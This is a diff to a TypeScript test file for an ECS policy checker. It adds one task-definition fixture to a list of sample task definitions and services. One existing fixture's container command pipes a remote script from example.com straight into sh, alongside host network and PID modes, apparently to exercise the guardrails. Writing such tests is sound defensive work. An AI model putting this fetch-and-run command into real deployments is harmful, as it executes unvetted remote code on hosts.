@@ -55,6 +55,7 @@ const twins: [string, Props][] = [
     [types.taskDefinition, td([c({ command: ["sh", "-c", "curl -fsSL https://example.com/x.sh | sh; supervisord &"] }), c({ name: "b", image: "b:1" })], { networkMode: "host", pidMode: "host", taskRoleArn: undefined })],
     [types.taskDefinition, td([c({ image: unknownString })], { tags: { team: "shop", "ecs-guardrails:exempt": "ecs-no-privileged" } })],
     [types.taskDefinition, td([c()], { volumes: [{ name: "data", efsVolumeConfiguration: { fileSystemId: "fs-1" } }], runtimePlatform: { operatingSystemFamily: "WINDOWS_SERVER_2022_CORE" } })],
+    [types.taskDefinition, td([c()], { memory: "1 GB", cpu: "0.25 vcpu", networkMode: undefined, requiresCompatibilities: ["MANAGED_INSTANCES"] })],
     [types.service, service()],
     [types.service, service({ enableEcsManagedTags: false, propagateTags: "NONE", deploymentCircuitBreaker: undefined, networkConfiguration: { subnets: ["s"], securityGroups: [], assignPublicIp: true } })],
     [types.service, service({ launchType: undefined, capacityProviderStrategies: [{ capacityProvider: "FARGATE_SPOT", weight: 1 }], platformVersion: "1.3.0", networkConfiguration: undefined })],
